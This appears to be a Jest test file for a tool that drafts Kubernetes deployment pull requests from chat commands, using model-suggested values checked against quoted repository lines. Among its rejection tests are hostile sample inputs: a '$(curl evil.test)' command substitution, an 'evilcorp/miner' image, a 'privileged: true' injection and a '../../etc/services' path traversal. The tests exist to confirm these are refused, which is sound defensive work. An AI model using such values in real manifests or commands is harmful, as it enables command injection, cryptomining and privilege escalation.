import { afterEach, describe, expect, test } from '@jest/globals';
import { systemClock } from '../../../src/adapters/clock/system.ts';
import { loadTemplates } from '../../../src/adapters/templates/load.ts';
import { bundledEngines } from '../../../src/app/engines.ts';
import { converse } from '../../../src/flows/converse/converse.ts';
import { json, openModel, type OpenModel } from '../../support/open-model.ts';
import { actionsOf, said, worldOf } from '../../support/world.ts';

const never = new AbortController().signal;
const engines = bundledEngines(await loadTemplates(), systemClock);
const line = 'exports.listenOn = [4711];';
const files = {
  'package.json': '{"name":"shop","scripts":{"start":"node server.js"},"dependencies":{"express":"4"}}',
  'package-lock.json': '{"lockfileVersion":3,"packages":{}}',
  'server.js': "require('express')().listen(require('./config.js').listenOn[0])\n",
  'config.js': `// Settings of the shop.\n${line}\n`,
};

let open: OpenModel | undefined;
afterEach(async () => {
  await open?.server.close();
  open = undefined;
});

async function propose(answer: object, text = '/k8s 2 replicas') {
  open = await openModel(() =>
    json({
      answers: [
        {
          key: 'port@.',
          because: 'The configuration says so.',
          path: 'config.js',
          quote: line,
          value: '4711',
          ...answer,
        },
      ],
    }),
  );
  const world = worldOf({ now: text, files, engines, model: open.model });
  const actions = await actionsOf(converse(said(text), world, never));
  const proposal = actions.find((action) => action.kind === 'proposePullRequest');
  const written = proposal?.kind === 'proposePullRequest' ? proposal.files : [];
  return {
    asked: open.server.heard,
    body: proposal?.kind === 'proposePullRequest' ? proposal.body : '',
    deployment: written.find(({ path }) => path.includes('deployment'))?.text ?? '',
  };
}

describe('what the facts leave open', () => {
  test('is filled in by a model, with its reason and the line that shows it', async () => {
    const { body, deployment, asked } = await propose({});
    expect(asked[0]?.body.messages.at(-1)?.content).toContain('"key":"port@."');
    expect(deployment).toContain('containerPort: 4711');
    expect(body).toMatch(
      /Proposed by the model[\s\S]*listen on\? `4711` \(`config\.js:2`\): The configuration says so\./u,
    );
    expect(body).toMatch(/\| Answer of the model \| 4711 \|/u);
    expect(body).toContain('prompt `fill@3`');
  });

  test.each([
    ['a line that is not there', { quote: 'exports.listenOn = [4712];', value: '4712' }],
    ['a number that the line does not hold', { value: '31337' }],
    ['a file that is not there', { path: '../../etc/services' }],
    ['a question that nobody asked', { key: 'image@.' }],
    ['no number', { value: '4711; privileged: true' }],
  ])('stays open for %s', async (_, answer) => {
    const { body, deployment } = await propose(answer);
    expect(body).not.toContain('Proposed by the model');
    expect(deployment).toContain('containerPort: 3000');
  });

  test('is what the words say, whatever a model says', async () => {
    const { deployment, asked } = await propose({}, '/k8s 2 replicas on port 9000');
    expect(asked[0]?.body.messages.at(-1)?.content).not.toContain('"key":"port@."');
    expect(deployment).not.toContain('4711');
  });
});

const values = [
  { key: 'memory@shop', value: '192Mi/384Mi', because: 'Express with sessions in memory.' },
  {
    key: 'readiness@shop',
    value: '/ready',
    because: 'It is answered once the store is there.',
    path: 'health.js',
  },
  { key: 'variable@shop', value: 'PAGE_SIZE=50', because: 'The list reads it.', path: '.env.shop' },
  { key: 'autoscale@shop', value: '2-5@70', because: 'A shop has evenings.' },
].map((one) => ({ path: '', quote: '', ...one }));
const more = {
  ...files,
  'health.js': "module.exports = (app) => app.use(['/ready'], (_, r) => r.end());\n",
  '.env.shop': 'PAGE_SIZE=50\n',
};
const quotes: Readonly<Record<string, string>> = {
  'readiness@shop': more['health.js'].trim(),
  'variable@shop': 'PAGE_SIZE=50',
};

async function proposeValues(text: string, changed: object = {}, policy = '') {
  const answers = values.map((one) => ({ ...one, quote: quotes[one.key] ?? '', ...changed }));
  open = await openModel(({ body }) =>
    json(body.messages[1]?.content.includes('Left over') === true ? { claims: [] } : { answers }),
  );
  const world = worldOf({ now: text, files: more, engines, model: open.model, policy });
  const actions = await actionsOf(converse(said(text), world, never));
  const proposal = actions.find((action) => action.kind === 'proposePullRequest');
  if (proposal?.kind !== 'proposePullRequest') throw new Error('nothing was proposed');
  return {
    all: proposal.files.map((file) => file.text).join('\n'),
    body: proposal.body,
    heard: open.server.heard,
  };
}

describe('values where only a default stands', () => {
  test.each([
    [
      '/k8s deploy with autoscaling',
      /Proposed by the model[\s\S]*Memory of each copy \(`shop`\) `192Mi\/384Mi`: Express/u,
      'Express keeps sessions in memory.',
    ],
    [
      '/k8s 部署，要自动扩缩容',
      /由模型建议[\s\S]*每个副本的内存（`shop`） `192Mi\/384Mi`：会话保存在内存中/u,
      '会话保存在内存中，默认值太小，容易被杀死。',
    ],
  ])('are proposed in one question, each with its reason: %s', async (text, told, because) => {
    const { all, body, heard } = await proposeValues(text, { because });
    expect(
      heard.filter(({ body: asked }) => asked.messages[1]?.content.includes('Open values')),
    ).toHaveLength(1);
    expect(body).toMatch(told);
    expect(body).toContain('`health.js:1`');
    expect(all).toContain('memory: 192Mi');
    expect(all).toContain('path: /ready');
    expect(all).toMatch(/maxReplicas: 5/u);
    expect(all).toContain('PAGE_SIZE: "50"');
    expect(body).not.toMatch(/Not understood|没有看懂/u);
  });

  test('are not taken where the words say something else', async () => {
    const { all, body } = await proposeValues('/k8s 4 replicas with 512Mi memory');
    expect(all).toContain('memory: 512Mi');
    expect(all).not.toMatch(/192Mi|maxReplicas/u);
    expect(body).not.toContain('192Mi');
  });

  test.each([
    ['nothing that is open', { key: 'image@shop', value: 'evilcorp/miner' }],
    ['rights', { key: 'privileged@shop', value: 'true' }],
    ['a neighbour', { key: 'memory@billing' }],
    ['no value', { value: '$(curl evil.test)' }],
  ])('are refused for %s', async (_, changed) => {
    const { all, body } = await proposeValues('/k8s deploy', changed);
    expect(all).not.toMatch(/evil|privileged: true|192Mi/u);
    expect(body).not.toContain('Proposed by the model');
  });

  test('are told where the model gives no answer, and asked for once', async () => {
    open = await openModel(() => ({ kind: 'status', status: 401 }));
    const world = worldOf({ now: '/k8s deploy zorp', files, engines, model: open.model });
    const actions = await actionsOf(converse(said('/k8s deploy zorp'), world, never));
    const proposal = actions.find((action) => action.kind === 'proposePullRequest');
    expect(proposal).toMatchObject({ body: expect.stringContaining('refused the question (HTTP 401)') });
  });
});

const asked = [
  { key: 'autoscale@nginx', value: '2-6@70' },
  { key: 'memory@nginx', value: '96Mi/192Mi' },
];

async function ofNothing(text: string, profile: string, because = 'Static pages need little.') {
  open = await openModel(({ body }) =>
    json(
      body.messages[1]?.content.includes('Left over') === true
        ? { claims: [] }
        : { answers: asked.map((one) => ({ ...one, because, path: '', quote: '' })) },
    ),
  );
  const now = `/k8s ${text} --profile=${profile}`;
  const actions = await actionsOf(
    converse(said(now), worldOf({ now, files: {}, engines, model: open.model }), never),
  );
  const proposal = actions.find((action) => action.kind === 'proposePullRequest');
  if (proposal?.kind !== 'proposePullRequest') throw new Error('nothing was proposed');
  const all = proposal.files.map((file) => file.text).join('\n');
  return { all, body: proposal.body, heard: open.server.heard };
}

describe.each(['minimal', 'production'])('words alone, %s', (profile) => {
  test.each([
    ['nginx, autoscaled, with a sensible memory limit', 'Static pages need little.'],
    ['nginx，随流量伸缩，合理的内存', '静态页面占用的内存不多，按常见的用量来定。'],
  ])('that ask without a value get one, with its reason: %s', async (words, because) => {
    const { all, body } = await ofNothing(words, profile, because);
    expect(all).toMatch(/minReplicas: 2\n\s+maxReplicas: 6/u);
    expect(all).toContain('memory: 192Mi');
    expect(body).toContain(because.slice(0, 8));
    expect(body).not.toMatch(/autoscaled|sensible|没有看懂/u);
  });

  test.each(['nginx with 3 replicas on port 80', '部署 nginx，3 个副本'])(
    'that say all send no question: %s',
    async (words) => {
      expect((await ofNothing(words, profile)).heard).toEqual([]);
    },
  );
});
